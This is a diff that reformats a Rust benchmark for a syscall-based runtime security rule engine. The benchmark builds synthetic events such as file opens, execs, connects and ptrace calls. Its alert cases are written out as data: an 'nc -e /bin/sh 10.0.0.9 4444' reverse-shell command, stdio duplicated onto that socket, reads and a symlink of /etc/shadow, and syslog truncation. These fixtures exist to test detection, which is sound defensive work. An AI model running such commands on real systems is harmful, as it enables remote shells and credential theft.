@@ -184,17 +184,69 @@ fn cases() -> Vec<Case> {
     let ro = "O_RDONLY|O_CLOEXEC";
     vec![
         // --- open reads (46)
-        c("openat libc", 10, open("openat", "/usr/lib/x86_64-linux-gnu/libc.so.6", ro, true, false)),
-        c("openat ld.so.cache", 6, open("openat", "/etc/ld.so.cache", ro, true, false)),
-        c("openat /etc/hosts", 4, open("openat", "/etc/hosts", ro, true, false)),
-        c("openat /proc/self/status", 5, open("openat", "/proc/self/status", "O_RDONLY", true, false)),
-        c("openat app file", 10, open("openat", "/app/templates/index.html", ro, true, false)),
-        c("openat python module", 6, open("openat", "/usr/local/lib/python3.12/json/__init__.py", ro, true, false)),
-        c("open /etc/passwd", 2, open("open", "/etc/passwd", "O_RDONLY", true, false)),
-        c("openat2 app config", 1, open("openat2", "/app/config.yaml", "O_RDONLY", true, false)),
+        c(
+            "openat libc",
+            10,
+            open(
+                "openat",
+                "/usr/lib/x86_64-linux-gnu/libc.so.6",
+                ro,
+                true,
+                false,
+            ),
+        ),
+        c(
+            "openat ld.so.cache",
+            6,
+            open("openat", "/etc/ld.so.cache", ro, true, false),
+        ),
+        c(
+            "openat /etc/hosts",
+            4,
+            open("openat", "/etc/hosts", ro, true, false),
+        ),
+        c(
+            "openat /proc/self/status",
+            5,
+            open("openat", "/proc/self/status", "O_RDONLY", true, false),
+        ),
+        c(
+            "openat app file",
+            10,
+            open("openat", "/app/templates/index.html", ro, true, false),
+        ),
+        c(
+            "openat python module",
+            6,
+            open(
+                "openat",
+                "/usr/local/lib/python3.12/json/__init__.py",
+                ro,
+                true,
+                false,
+            ),
+        ),
+        c(
+            "open /etc/passwd",
+            2,
+            open("open", "/etc/passwd", "O_RDONLY", true, false),
+        ),
+        c(
+            "openat2 app config",
+            1,
+            open("openat2", "/app/config.yaml", "O_RDONLY", true, false),
+        ),
         c("openat ENOENT", 1, {
-            let mut e = open("openat", "/etc/../etc/missing.conf", "O_RDONLY", true, false);
-            let extra = ev(json!({"evt.type": "openat", "fd.num": -1, "evt.rawres": -2, "evt.res": "ENOENT"}));
+            let mut e = open(
+                "openat",
+                "/etc/../etc/missing.conf",
+                "O_RDONLY",
+                true,
+                false,
+            );
+            let extra = ev(
+                json!({"evt.type": "openat", "fd.num": -1, "evt.rawres": -2, "evt.res": "ENOENT"}),
+            );
             for (f, a) in [("fd.num", None), ("evt.rawres", None), ("evt.res", None)] {
                 let (info, arg) = tiercel_rules::fields::resolve(f, a).expect("field");
                 let v = extra.extract(info.field, &arg).expect("value").clone();
@@ -202,22 +254,153 @@ fn cases() -> Vec<Case> {
             }
             e
         }),
-        c("openat /etc/shadow (alert)", 1, open("openat", "/etc/shadow", "O_RDONLY", true, false)),
+        c(
+            "openat /etc/shadow (alert)",
+            1,
+            open("openat", "/etc/shadow", "O_RDONLY", true, false),
+        ),
         // --- open writes (14)
-        c("openat /tmp write", 6, open("openat", "/tmp/tmpa8f3k2/upload.bin", "O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC", false, true)),
-        c("openat app log append", 7, open("openat", "/app/logs/access.log", "O_WRONLY|O_CREAT|O_APPEND", false, true)),
-        c("openat /var/log truncate (alert)", 1, open("openat", "/var/log/syslog", "O_WRONLY|O_TRUNC", false, true)),
+        c(
+            "openat /tmp write",
+            6,
+            open(
+                "openat",
+                "/tmp/tmpa8f3k2/upload.bin",
+                "O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC",
+                false,
+                true,
+            ),
+        ),
+        c(
+            "openat app log append",
+            7,
+            open(
+                "openat",
+                "/app/logs/access.log",
+                "O_WRONLY|O_CREAT|O_APPEND",
+                false,
+                true,
+            ),
+        ),
+        c(
+            "openat /var/log truncate (alert)",
+            1,
+            open("openat", "/var/log/syslog", "O_WRONLY|O_TRUNC", false, true),
+        ),
         // --- execve (14) + execveat (1)
-        c("execve sh -c", 3, exec("execve", "sh", "/bin/sh", "-c ls /app", "python3", json!({}))),
-        c("execve ls", 2, exec("execve", "ls", "/bin/ls", "-la /app", "sh", json!({}))),
-        c("execve cat", 2, exec("execve", "cat", "/bin/cat", "/app/config.yaml", "sh", json!({}))),
-        c("execve grep", 1, exec("execve", "grep", "/bin/grep", "-r TODO /app", "sh", json!({}))),
-        c("execve python3", 2, exec("execve", "python3", "/usr/local/bin/python3", "-m worker", "sh", json!({}))),
-        c("execve curl", 1, exec("execve", "curl", "/usr/bin/curl", "-s https://example.com/health", "sh", json!({}))),
-        c("execve find", 1, exec("execve", "find", "/usr/bin/find", "/app -name *.pyc -delete", "sh", json!({}))),
-        c("execve bash tty (alert)", 1, exec("execve", "bash", "/bin/bash", "", "runc", json!({"proc.tty": 34816, "proc.aname[1]": "runc", "proc.pname": "runc"}))),
-        c("execve nc -e (alert)", 1, exec("execve", "nc", "/bin/nc", "-e /bin/sh 10.0.0.9 4444", "sh", json!({}))),
-        c("execveat memfd", 1, exec("execveat", "python3", "memfd:x", "", "python3", json!({"proc.is_exe_from_memfd": false}))),
+        c(
+            "execve sh -c",
+            3,
+            exec(
+                "execve",
+                "sh",
+                "/bin/sh",
+                "-c ls /app",
+                "python3",
+                json!({}),
+            ),
+        ),
+        c(
+            "execve ls",
+            2,
+            exec("execve", "ls", "/bin/ls", "-la /app", "sh", json!({})),
+        ),
+        c(
+            "execve cat",
+            2,
+            exec(
+                "execve",
+                "cat",
+                "/bin/cat",
+                "/app/config.yaml",
+                "sh",
+                json!({}),
+            ),
+        ),
+        c(
+            "execve grep",
+            1,
+            exec(
+                "execve",
+                "grep",
+                "/bin/grep",
+                "-r TODO /app",
+                "sh",
+                json!({}),
+            ),
+        ),
+        c(
+            "execve python3",
+            2,
+            exec(
+                "execve",
+                "python3",
+                "/usr/local/bin/python3",
+                "-m worker",
+                "sh",
+                json!({}),
+            ),
+        ),
+        c(
+            "execve curl",
+            1,
+            exec(
+                "execve",
+                "curl",
+                "/usr/bin/curl",
+                "-s https://example.com/health",
+                "sh",
+                json!({}),
+            ),
+        ),
+        c(
+            "execve find",
+            1,
+            exec(
+                "execve",
+                "find",
+                "/usr/bin/find",
+                "/app -name *.pyc -delete",
+                "sh",
+                json!({}),
+            ),
+        ),
+        c(
+            "execve bash tty (alert)",
+            1,
+            exec(
+                "execve",
+                "bash",
+                "/bin/bash",
+                "",
+                "runc",
+                json!({"proc.tty": 34816, "proc.aname[1]": "runc", "proc.pname": "runc"}),
+            ),
+        ),
+        c(
+            "execve nc -e (alert)",
+            1,
+            exec(
+                "execve",
+                "nc",
+                "/bin/nc",
+                "-e /bin/sh 10.0.0.9 4444",
+                "sh",
+                json!({}),
+            ),
+        ),
+        c(
+            "execveat memfd",
+            1,
+            exec(
+                "execveat",
+                "python3",
+                "memfd:x",
+                "",
+                "python3",
+                json!({"proc.is_exe_from_memfd": false}),
+            ),
+        ),
         // --- connect (9)
         c("connect https", 5, connect("93.184.216.34", 443, "tcp", 0)),
         c("connect private", 2, connect("10.0.3.7", 5432, "tcp", 0)),
@@ -227,60 +410,100 @@ fn cases() -> Vec<Case> {
             set(&mut e, "proc.name", json!("ssh"));
             e
         }),
-        c("connect unix", 1, ev(json!({
-            "evt.type": "connect", "fd.typechar": "u", "fd.type": "unix", "fd.l4proto": "",
-            "fd.sockfamily": "unix", "fd.num": 8, "evt.rawres": 0,
-            "fd.name": "/run/app.sock", "fd.connected": true, "fd.name_changed": false,
-            "evt.arg.addr": "/run/app.sock", "evt.arg.fd": 8,
-        }))),
+        c(
+            "connect unix",
+            1,
+            ev(json!({
+                "evt.type": "connect", "fd.typechar": "u", "fd.type": "unix", "fd.l4proto": "",
+                "fd.sockfamily": "unix", "fd.num": 8, "evt.rawres": 0,
+                "fd.name": "/run/app.sock", "fd.connected": true, "fd.name_changed": false,
+                "evt.arg.addr": "/run/app.sock", "evt.arg.fd": 8,
+            })),
+        ),
         // --- socket (6)
         c("socket AF_INET", 3, socket("AF_INET", 7)),
         c("socket AF_INET6", 1, socket("AF_INET6", 7)),
         c("socket AF_UNIX", 1, socket("AF_UNIX", 8)),
         c("socket AF_PACKET (alert)", 1, socket("AF_PACKET", 9)),
         // --- dup (3)
-        c("dup2 stdio onto socket (alert)", 1, ev(json!({
-            "evt.type": "dup2", "fd.typechar": "4", "fd.type": "ipv4", "fd.l4proto": "tcp",
-            "fd.num": 0, "evt.rawres": 0, "fd.name": "172.17.0.2:40000->10.0.0.9:4444",
-            "fd.sip": "10.0.0.9", "fd.cip": "172.17.0.2", "fd.sport": 4444,
-            "proc.name": "sh", "proc.exe": "/bin/sh", "proc.pname": "python3",
-            "evt.arg.oldfd": 7, "evt.arg.newfd": 0,
-        }))),
-        c("dup3 onto file", 2, ev(json!({
-            "evt.type": "dup3", "fd.typechar": "f", "fd.type": "file", "fd.num": 1,
-            "evt.rawres": 1, "fd.name": "/app/logs/out.log", "evt.arg.oldfd": 5,
-            "evt.arg.newfd": 1,
-        }))),
+        c(
+            "dup2 stdio onto socket (alert)",
+            1,
+            ev(json!({
+                "evt.type": "dup2", "fd.typechar": "4", "fd.type": "ipv4", "fd.l4proto": "tcp",
+                "fd.num": 0, "evt.rawres": 0, "fd.name": "172.17.0.2:40000->10.0.0.9:4444",
+                "fd.sip": "10.0.0.9", "fd.cip": "172.17.0.2", "fd.sport": 4444,
+                "proc.name": "sh", "proc.exe": "/bin/sh", "proc.pname": "python3",
+                "evt.arg.oldfd": 7, "evt.arg.newfd": 0,
+            })),
+        ),
+        c(
+            "dup3 onto file",
+            2,
+            ev(json!({
+                "evt.type": "dup3", "fd.typechar": "f", "fd.type": "file", "fd.num": 1,
+                "evt.rawres": 1, "fd.name": "/app/logs/out.log", "evt.arg.oldfd": 5,
+                "evt.arg.newfd": 1,
+            })),
+        ),
         // --- links (3)
-        c("symlinkat app", 1, ev(json!({
-            "evt.type": "symlinkat", "evt.arg.target": "/app/releases/v42", "evt.arg.linkpath": "/app/current",
-            "evt.rawres": 0,
-        }))),
-        c("symlinkat /etc/shadow (alert)", 1, ev(json!({
-            "evt.type": "symlinkat", "evt.arg.target": "/etc/shadow", "evt.arg.linkpath": "/tmp/s",
-            "evt.rawres": 0,
-        }))),
-        c("linkat", 1, ev(json!({
-            "evt.type": "linkat", "evt.arg.oldpath": "/app/data/a", "evt.arg.newpath": "/app/data/b",
-            "evt.rawres": 0,
-        }))),
+        c(
+            "symlinkat app",
+            1,
+            ev(json!({
+                "evt.type": "symlinkat", "evt.arg.target": "/app/releases/v42", "evt.arg.linkpath": "/app/current",
+                "evt.rawres": 0,
+            })),
+        ),
+        c(
+            "symlinkat /etc/shadow (alert)",
+            1,
+            ev(json!({
+                "evt.type": "symlinkat", "evt.arg.target": "/etc/shadow", "evt.arg.linkpath": "/tmp/s",
+                "evt.rawres": 0,
+            })),
+        ),
+        c(
+            "linkat",
+            1,
+            ev(json!({
+                "evt.type": "linkat", "evt.arg.oldpath": "/app/data/a", "evt.arg.newpath": "/app/data/b",
+                "evt.rawres": 0,
+            })),
+        ),
         // --- ptrace (2)
-        c("ptrace attach (alert)", 1, ev(json!({
-            "evt.type": "ptrace", "evt.arg.request": "PTRACE_ATTACH", "evt.arg.pid": 4300,
-            "proc.name": "gdb", "proc.exe": "/usr/bin/gdb", "evt.rawres": 0,
-        }))),
-        c("ptrace traceme (alert)", 1, ev(json!({
-            "evt.type": "ptrace", "evt.arg.request": "PTRACE_TRACEME", "evt.arg.pid": 0,
-            "evt.rawres": 0,
-        }))),
+        c(
+            "ptrace attach (alert)",
+            1,
+            ev(json!({
+                "evt.type": "ptrace", "evt.arg.request": "PTRACE_ATTACH", "evt.arg.pid": 4300,
+                "proc.name": "gdb", "proc.exe": "/usr/bin/gdb", "evt.rawres": 0,
+            })),
+        ),
+        c(
+            "ptrace traceme (alert)",
+            1,
+            ev(json!({
+                "evt.type": "ptrace", "evt.arg.request": "PTRACE_TRACEME", "evt.arg.pid": 0,
+                "evt.rawres": 0,
+            })),
+        ),
         // --- misc (2)
-        c("memfd_create", 1, ev(json!({
-            "evt.type": "memfd_create", "evt.arg.name": "jit", "evt.arg.flags": "MFD_CLOEXEC",
-            "evt.rawres": 9, "fd.num": 9,
-        }))),
-        c("finit_module", 1, ev(json!({
-            "evt.type": "finit_module", "evt.arg.fd": 5, "evt.rawres": -1, "evt.res": "EPERM",
-        }))),
+        c(
+            "memfd_create",
+            1,
+            ev(json!({
+                "evt.type": "memfd_create", "evt.arg.name": "jit", "evt.arg.flags": "MFD_CLOEXEC",
+                "evt.rawres": 9, "fd.num": 9,
+            })),
+        ),
+        c(
+            "finit_module",
+            1,
+            ev(json!({
+                "evt.type": "finit_module", "evt.arg.fd": 5, "evt.rawres": -1, "evt.res": "EPERM",
+            })),
+        ),
     ]
 }
 
@@ -337,7 +560,12 @@ fn mix<'a>(cases: &[&'a Case]) -> Vec<&'a JsonEvent> {
 }
 
 #[inline(never)]
-fn eval_pass(program: &Program, evs: &[&JsonEvent], matching: RuleMatching, out: &mut Vec<usize>) -> usize {
+fn eval_pass(
+    program: &Program,
+    evs: &[&JsonEvent],
+    matching: RuleMatching,
+    out: &mut Vec<usize>,
+) -> usize {
     let mut matches = 0;
     for e in evs {
         out.clear();
@@ -348,7 +576,12 @@ fn eval_pass(program: &Program, evs: &[&JsonEvent], matching: RuleMatching, out:
 }
 
 #[inline(never)]
-fn callgrind_loop(program: &Program, evs: &[&JsonEvent], matching: RuleMatching, n: usize) -> usize {
+fn callgrind_loop(
+    program: &Program,
+    evs: &[&JsonEvent],
+    matching: RuleMatching,
+    n: usize,
+) -> usize {
     let mut out = Vec::with_capacity(16);
     let mut matches = 0;
     for e in evs.iter().cycle().take(n) {
@@ -431,7 +664,13 @@ fn main() {
         "{} rules loaded from {path} with the Loader in {load_time:?}",
         program.rules().len()
     );
-    println!("load: {}", std::process::Command::new("uptime").output().map(|o| String::from_utf8_lossy(&o.stdout).trim().to_string()).unwrap_or_default());
+    println!(
+        "load: {}",
+        std::process::Command::new("uptime")
+            .output()
+            .map(|o| String::from_utf8_lossy(&o.stdout).trim().to_string())
+            .unwrap_or_default()
+    );
 
     // What fires, once (sanity: the mix exercises the rules).
     let mut out = Vec::new();
@@ -439,7 +678,10 @@ fn main() {
         out.clear();
         program.eval(&c.event, RuleMatching::All, &mut out);
         if !out.is_empty() {
-            let names: Vec<&str> = out.iter().map(|&i| program.rules()[i].name.as_str()).collect();
+            let names: Vec<&str> = out
+                .iter()
+                .map(|&i| program.rules()[i].name.as_str())
+                .collect();
             println!("  {:<34} -> {}", c.label, names.join(", "));
         }
     }
@@ -455,20 +697,44 @@ fn main() {
     let verbose = std::env::var_os("TIERCEL_BENCH_VERBOSE").is_some();
 
     println!();
-    println!("{:<14} {:>6} {:>6} {:>22} {:>22}", "events", "weight", "rules", "First ns/ev (med/min)", "All ns/ev (med/min)");
+    println!(
+        "{:<14} {:>6} {:>6} {:>22} {:>22}",
+        "events", "weight", "rules", "First ns/ev (med/min)", "All ns/ev (med/min)"
+    );
     let total_weight: usize = cases.iter().map(|c| c.weight).sum();
     let (fm, fmin) = measure(&program, &full, RuleMatching::First);
     let (am, amin) = measure(&program, &full, RuleMatching::All);
-    println!("{:<14} {:>6} {:>6} {:>13.0} / {:<6.0} {:>13.0} / {:<6.0}", "MIX", total_weight, program.rules().len(), fm, fmin, am, amin);
+    println!(
+        "{:<14} {:>6} {:>6} {:>13.0} / {:<6.0} {:>13.0} / {:<6.0}",
+        "MIX",
+        total_weight,
+        program.rules().len(),
+        fm,
+        fmin,
+        am,
+        amin
+    );
     for t in &types {
-        let sel: Vec<&Case> = cases.iter().filter(|c| c.event.event_type().name() == *t).collect();
+        let sel: Vec<&Case> = cases
+            .iter()
+            .filter(|c| c.event.event_type().name() == *t)
+            .collect();
         let etype = sel[0].event.event_type();
         let rules = program.rules_for(etype);
         let evs = mix(&sel);
         let w: usize = sel.iter().map(|c| c.weight).sum();
         let (fm, fmin) = measure(&program, &evs, RuleMatching::First);
         let (am, amin) = measure(&program, &evs, RuleMatching::All);
-        println!("{:<14} {:>6} {:>6} {:>13.0} / {:<6.0} {:>13.0} / {:<6.0}", t, w, rules.len(), fm, fmin, am, amin);
+        println!(
+            "{:<14} {:>6} {:>6} {:>13.0} / {:<6.0} {:>13.0} / {:<6.0}",
+            t,
+            w,
+            rules.len(),
+            fm,
+            fmin,
+            am,
+            amin
+        );
         if verbose {
             for &r in rules {
                 let rule = &program.rules()[r as usize];
